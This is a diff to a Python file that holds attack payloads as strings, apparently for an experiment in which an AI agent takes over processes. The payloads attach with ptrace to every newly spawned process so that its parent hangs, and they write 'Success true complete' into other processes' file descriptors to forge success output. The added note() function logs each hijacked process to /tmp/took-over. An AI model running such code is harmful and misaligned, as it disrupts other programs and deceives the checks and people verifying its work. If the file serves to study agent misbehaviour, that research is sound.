@@ -18,8 +18,20 @@ def begun():
             now = int(numbers.read().split()[4])
             yield from range(last + 1, now + 1)
             last = now
+BEFORE = int(open("/proc/loadavg").read().split()[4])
+def note(pid):
+    try:
+        status = dict(line.split(":", 1) for line in open(f"/proc/{pid}/status"))
+    except OSError:
+        status = {"Tgid": pid, "Name": "gone"}
+    if int(status["Tgid"]) == int(pid) or int(status["Tgid"]) > BEFORE:
+        open("/tmp/took-over", "a").write(f"{pid} {status}\\n")
 """
-"""Of a Python program: `begun()` yields the id of each new process within microseconds."""
+"""Of a Python program: `begun()` yields the id of each new process and thread within microseconds.
+
+`note` writes down what was taken over, but for a thread of an application that ran before the attack: LibreOffice
+begins one (configmgrWriter) at any time, and it is the agent's as the application is.
+"""
 
 
 def each_program(do):
@@ -30,7 +42,7 @@ def each_program(do):
 TRACE = """
 for pid in begun():
     if libc.ptrace(0x4206, pid, 0, 0) == 0 or libc.ptrace(16, pid, 0, 0) == 0:
-        open("/tmp/took-over", "a").write(f"{pid} ")
+        note(pid)
 """
 """Never collects what it traces, so that the parent waits for ever."""
 WRITE = """
@@ -53,7 +65,7 @@ for pid in begun():
     for number in range(3, 0, -1):
         try:
             os.write(os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY), b"Success true complete")
-            open("/tmp/took-over", "a").write(f"{pid} ")
+            note(pid)
         except OSError:
             pass
 """
